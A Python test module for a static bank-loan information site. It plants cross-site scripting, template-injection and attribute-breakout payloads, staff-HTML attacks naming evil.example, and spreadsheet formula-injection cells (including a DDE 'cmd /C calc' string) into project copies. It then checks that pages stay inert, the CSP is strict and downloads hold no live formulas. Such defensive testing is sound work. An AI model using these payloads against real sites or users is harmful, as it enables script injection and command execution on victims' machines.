"""Gate: XSS payloads stay inert text, the CSP forbids other origins, downloads hold no formulas."""

from __future__ import annotations

import csv
import re
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import yaml
from playwright.sync_api import BrowserContext, Dialog

from tests.quality.findings import Finding
from tests.quality.pages import SEARCH_RESULT_LINK, html_files

# Each payload, if it ever ran, would open a dialog or change window.__xss (set to 0 before
# any page script by the crawl). Real-world shapes: tags, handlers, URLs, SVG/MathML, attribute
# breaking, encodings, template syntax of Jinja2 (our templates) and Markdown.
XSS_PAYLOADS: tuple[str, ...] = (
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=2\">",
    "\"><img src=x onerror=alert(3)>",
    "'><svg onload=alert(4)>",
    "<svg><script>window.__xss=5</script></svg>",
    "<a href=\"javascript:alert(6)\">点我</a>",
    "[点我领取贴息](javascript:alert(7))",
    "{{ 7*7 }} {{ config }} {{ ''.__class__ }}",
    "{% for x in range(3) %}重复{% endfor %}{% raw %}",
    "&lt;script&gt;window.__xss=10&lt;/script&gt;",
    "%3Cscript%3Ewindow.__xss=11%3C/script%3E",
    "<iframe src=\"javascript:alert(12)\"></iframe>",
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "\\u003cscript\\u003ewindow.__xss=16\\u003c/script\\u003e",
    "<input autofocus onfocus=alert(17)>",
    "<object data=\"data:text/html,<script>alert(18)</script>\"></object>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(19)\">",
    "<a href=\"&#106;avascript:alert(20)\">x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(21)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(22)\">",
    "<style>@import 'javascript:alert(23)';</style>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(24)//'>",
    "<scr<script>ipt>window.__xss=25</scr</script>ipt>",
    "<div style=\"background:url(javascript:alert(26))\">样式</div>",
)
# Attacks in staff HTML (Markdown may carry HTML): the sanitiser removes them; STAFF_HTML_DANGEROUS are
# the traces none of them may leave in a built page.
STAFF_HTML_PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">点我</a>',
    '<a href="JaVaScRiPt:alert(1)">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example/"><input name=p></form>',
    "<style>body{display:none}</style>",
    '<div onclick="alert(1)" onmouseover="alert(1)">文字</div>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<p style="position:fixed;background:url(https://evil.example/)">文字</p>',
)
STAFF_HTML_DANGEROUS = ("<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:",
                        "vbscript:", "data:text", "<svg", "<iframe", "<object", "<embed", "<form", "<input",
                        "<style", "position", "evil.example/\"")
# Breaks out of a quoted attribute (title goes into <title>, meta and data attributes).
TITLE_PAYLOAD = "\" autofocus onfocus=\"window.__xss=30\" x=\"' onmouseover='alert(31)' "
# Product text fields without a format rule (catalog/schema/products.schema.json).
BANK_TEXT_FIELDS = ("summary", "eligibility", "materials", "process", "rate_note", "fees",
                    "contact_name", "branch_address")
NAME_MAX = 40
XSS_BANK = "icbc"
REJECTED_APPLY_URLS = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "https://x.invalid/\"><script>alert(1)</script>",
                       "data:text/html,<script>alert(1)</script>")


@dataclass(frozen=True)
class PlacedPayload:
    product_id: str
    field: str
    payload: str


def plant_bank_payloads(project: Path) -> list[PlacedPayload]:
    """Write every payload into text fields of one bank's products (a project copy)."""
    path = project / "catalog" / "banks" / XSS_BANK / "products.csv"
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fieldnames = list(reader.fieldnames or [])
        rows = list(reader)
    placed = []
    slots = [(row, field) for field in BANK_TEXT_FIELDS for row in rows]
    for index, payload in enumerate(XSS_PAYLOADS):
        row, field = slots[index % len(slots)]
        row[field] = payload
        placed.append(PlacedPayload(row["product_id"], field, payload))
    # Short payloads also go into product names (headings, titles, lists, search results).
    short = [p for p in XSS_PAYLOADS if 2 <= len(p) <= NAME_MAX]
    for row, payload in zip(rows, short):
        row["name"] = payload
        placed.append(PlacedPayload(row["product_id"], "name", payload))
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fieldnames)
        writer.writeheader()
        writer.writerows(rows)
    return placed


# Cells a spreadsheet would run (OWASP CSV injection): they must reach the downloads inert.
FORMULA_PAYLOADS: dict[str, str] = {
    "summary": "=HYPERLINK(\"http://evil.invalid\",\"点此领取贴息\")",
    "eligibility": "@SUM(1+1)*cmd|' /C calc'!A0",
    "materials": "+1+1",
    "process": "-2+3",
    "fees": "=1+1",
}
FORMULA_BANK = "abc"


def plant_formula_payloads(project: Path) -> None:
    path = project / "catalog" / "banks" / FORMULA_BANK / "products.csv"
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fieldnames, rows = list(reader.fieldnames or []), list(reader)
    rows[0].update(FORMULA_PAYLOADS)
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fieldnames)
        writer.writeheader()
        writer.writerows(rows)


def plant_registry_payloads(project: Path) -> dict[str, list[str]]:
    """Payloads in the bank's address and short name in the registry; {bank page: payloads}."""
    path = project / "catalog" / "registry" / "banks.csv"
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fieldnames, rows = list(reader.fieldnames or []), list(reader)
    planted = {"address": XSS_PAYLOADS[1], "short_name": XSS_PAYLOADS[3]}
    for row in rows:
        if row["bank_id"] == XSS_BANK:
            row.update(planted)
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fieldnames)
        writer.writeheader()
        writer.writerows(rows)
    return {f"banks/{XSS_BANK}/": list(planted.values())}


def plant_content_payloads(project: Path) -> list[str]:
    """Payloads in the title, summary and body of one policy, case and notice; their URL paths."""
    touched = []
    for section in ("policies", "cases", "notices"):
        source = sorted(p for p in (project / "content" / section).glob("*.md")
                        if p.stem != "illegal-intermediaries")[0]
        _, front, body = source.read_text(encoding="utf-8").split("---\n", 2)
        meta = yaml.safe_load(front)
        # Titles with < > are refused by validation (content-title rule); the rest must be inert.
        meta["title"] = f"{TITLE_PAYLOAD}{meta['title']}{XSS_PAYLOADS[7]}"
        meta["summary"] = f"{XSS_PAYLOADS[0]} {XSS_PAYLOADS[8]}"
        body += "\n\n" + "\n\n".join(XSS_PAYLOADS) + "\n"
        source.write_text("---\n" + yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)
                          + "---\n" + body, encoding="utf-8")
        touched.append(f"{section}/{source.stem}/")
    return touched


def set_apply_url(project: Path, url: str) -> str:
    """Put ``url`` into the first product's apply_url; returns that product's id."""
    path = project / "catalog" / "banks" / XSS_BANK / "products.csv"
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        fieldnames, rows = list(reader.fieldnames or []), list(reader)
    rows[0]["apply_url"] = url
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=fieldnames)
        writer.writeheader()
        writer.writerows(rows)
    return rows[0]["product_id"]


def _collapse(text: str) -> str:
    return " ".join(text.split())


def check_inert(context: BrowserContext, site_url: str, paths: list[str],
                shown: dict[str, list[str]] | None = None) -> list[Finding]:
    """Open each page: no dialog, ``window.__xss`` untouched, and ``shown[path]`` texts visible."""
    findings: list[Finding] = []
    current = {"path": ""}

    def on_dialog(dialog: Dialog) -> None:
        findings.append(Finding(current["path"], "xss-dialog", f"{dialog.type}: {dialog.message}"))
        dialog.dismiss()

    context.add_init_script("window.__xss = 0;")
    page = context.new_page()
    page.on("dialog", on_dialog)
    try:
        for path in paths:
            current["path"] = path
            page.goto(site_url + path, wait_until="load")
            if path.startswith("search/?q="):
                page.locator(SEARCH_RESULT_LINK).first.wait_for(timeout=15000)
            # Let handlers of injected markup fire, then read the sentinel: onload/onerror ran before
            # "load"; autofocus (onfocus) runs in the next rendering update, before its frame callbacks.
            sentinel = page.evaluate("""() => new Promise(done => requestAnimationFrame(() =>
                requestAnimationFrame(() => setTimeout(() => done(window.__xss)))))""")
            if sentinel != 0:
                findings.append(Finding(path, "xss-script-ran", f"window.__xss became {sentinel!r}"))
            if shown and path in shown:
                text = _collapse(page.locator("body").inner_text())
                for payload in shown[path]:
                    if _collapse(payload) not in text:
                        findings.append(Finding(path, "payload-not-shown-as-typed", payload))
    finally:
        page.close()
    return findings


# ---------------------------------------------------------------- Content-Security-Policy

REQUIRED = {"default-src": {"'self'"}, "object-src": {"'none'"}, "base-uri": {"'self'"},
            "form-action": {"'self'"}}
ALLOWED_SOURCES = {"'self'", "'none'", "data:", "'wasm-unsafe-eval'"}
HASH_SOURCE = re.compile(r"^'sha(256|384|512)-[A-Za-z0-9+/=]+'$")


class _HeadScan(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.policy: str | None = None
        self.loaded_before_policy: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            if self.policy is None:
                self.policy = values.get("content") or ""
        elif self.policy is None and (tag == "script" or (tag == "link" and values.get("rel") == "stylesheet")):
            self.loaded_before_policy.append(f"<{tag}>")


def parse_policy(text: str) -> dict[str, list[str]]:
    directives: dict[str, list[str]] = {}
    for part in text.split(";"):
        words = part.split()
        if words:
            directives.setdefault(words[0].lower(), words[1:])
    return directives


def policy_findings(page: str, policy: str) -> list[Finding]:
    directives = parse_policy(policy)
    findings = []
    for name, expected in REQUIRED.items():
        if set(directives.get(name, [])) != expected:
            findings.append(Finding(page, "csp-directive", f"{name} is {directives.get(name)!r}, want {sorted(expected)}"))
    for name, sources in directives.items():
        for source in sources:
            if source not in ALLOWED_SOURCES and not HASH_SOURCE.match(source):
                findings.append(Finding(page, "csp-source", f"{name} allows {source}"))
            if source == "'wasm-unsafe-eval'" and name != "script-src":
                findings.append(Finding(page, "csp-source", f"{name} allows {source}"))
    return findings


def check_csp(site_dir: Path) -> list[Finding]:
    """Every page carries the policy before anything it loads, and the policy is strict."""
    findings = []
    for file in html_files(site_dir):
        rel = file.relative_to(site_dir).as_posix()
        scan = _HeadScan()
        scan.feed(file.read_text(encoding="utf-8"))
        if scan.policy is None:
            findings.append(Finding(rel, "csp-missing", "no <meta http-equiv=\"Content-Security-Policy\">"))
            continue
        if scan.loaded_before_policy:
            findings.append(Finding(rel, "csp-late", f"{', '.join(scan.loaded_before_policy)} before the policy"))
        findings.extend(policy_findings(rel, scan.policy))
    return findings


# ---------------------------------------------------------------- spreadsheet downloads

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def _live_csv_cell(value: str) -> bool:
    return value.startswith(FORMULA_START) and not _NUMBER.match(value)


def check_spreadsheets(site_dir: Path) -> list[Finding]:
    """CSV cells a spreadsheet would run as a formula (OWASP CSV injection); XLSX formula cells."""
    from openpyxl import load_workbook

    findings = []
    for file in sorted(site_dir.rglob("*.csv")):
        rel = file.relative_to(site_dir).as_posix()
        with file.open(encoding="utf-8-sig", newline="") as f:
            for row_no, row in enumerate(csv.reader(f), start=1):
                for col_no, value in enumerate(row, start=1):
                    if _live_csv_cell(value):
                        findings.append(Finding(rel, "csv-formula", f"row {row_no} column {col_no}: {value[:60]!r}"))
    for file in sorted(site_dir.rglob("*.xlsx")):
        rel = file.relative_to(site_dir).as_posix()
        workbook = load_workbook(file, read_only=False)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        findings.append(Finding(rel, "xlsx-formula", f"{sheet.title}!{cell.coordinate}: {str(cell.value)[:60]!r}"))
    return findings
